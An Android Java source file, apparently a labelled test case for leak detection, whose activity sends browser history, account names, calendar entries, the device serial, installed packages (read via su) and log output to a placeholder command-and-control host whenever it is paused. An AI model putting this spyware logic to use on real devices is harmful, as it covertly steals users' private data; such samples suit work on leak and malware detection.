package trojans;

import android.accounts.Account;
import android.accounts.AccountManager;
import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.provider.CalendarContract;
import java.io.BufferedReader;
import java.io.DataOutputStream;
import java.io.InputStreamReader;
import java.io.PrintWriter;
import java.net.Socket;
import java.util.Arrays;

/** Pages visited, accounts, appointments, what commands print. */
public class Past extends Activity {
    protected void onPause() {
        super.onPause();
        new Thread(new Runnable() {
            public void run() {
                try {
                    all(new PrintWriter(new Socket("c2.example.invalid", 89).getOutputStream(), true));
                } catch (Exception e) {
                    finish();
                }
            }
        }).start();
    }

    private void all(PrintWriter out) throws Exception {
        Cursor pages = managedQuery(Uri.parse("content://browser/bookmarks"), new String[] {"title", "url", "visits"}, "bookmark = 0", null, null);
        while (pages.moveToNext()) {
            out.printf("%s\n", pages.getString(1)); // leak
        }
        Account[] accounts = AccountManager.get(this).getAccounts();
        String[] names = new String[accounts.length];
        for (int i = 0; i < accounts.length; i++) {
            names[i] = accounts[i].type + ":" + accounts[i].name;
        }
        out.println(Arrays.toString(names)); // leak
        out.println("accounts: " + names.length); // no leak
        Cursor events = getContentResolver().query(CalendarContract.Events.CONTENT_URI, null, null, null, null);
        if (events.moveToFirst()) {
            out.println(events.getString(events.getColumnIndex("title"))); // leak
        }
        out.println(run("getprop ro.serialno")); // leak
        out.println(run("date")); // no leak
        out.println(root("pm list packages -3")); // leak
        out.println(root("id")); // no leak
        Process logs = new ProcessBuilder("logcat", "-d").redirectErrorStream(true).start();
        out.println(new BufferedReader(new InputStreamReader(logs.getInputStream())).readLine()); // leak
    }

    private static String run(String command) throws Exception {
        Process process = Runtime.getRuntime().exec(command);
        BufferedReader in = new BufferedReader(new InputStreamReader(process.getInputStream()));
        StringBuilder text = new StringBuilder();
        for (String line; (line = in.readLine()) != null; ) {
            text.append(line).append('\n');
        }
        process.waitFor();
        return text.toString();
    }

    private static String root(String command) throws Exception {
        Process process = Runtime.getRuntime().exec("su");
        DataOutputStream to = new DataOutputStream(process.getOutputStream());
        to.writeBytes(command + "\n");
        to.writeBytes("exit\n");
        to.flush();
        java.util.Scanner in = new java.util.Scanner(process.getInputStream()).useDelimiter("\\A");
        return in.hasNext() ? in.next() : "";
    }
}
